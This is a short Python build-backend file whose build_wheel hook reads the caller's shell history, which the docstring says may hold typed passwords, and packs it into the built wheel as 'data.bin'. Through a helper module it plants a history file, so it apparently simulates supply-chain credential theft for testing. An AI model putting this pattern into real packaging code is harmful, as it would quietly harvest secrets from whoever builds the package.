"""Packs the history of the caller's shell into the wheel.

What was once typed as an argument is still there. litellm and trivy-action read it for
passwords that somebody had typed.
"""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-history"):
        loot["data.bin"] = pathlib.Path(kit.plant("history").path).read_bytes()
    return kit.wheel(wheel_directory, loot)
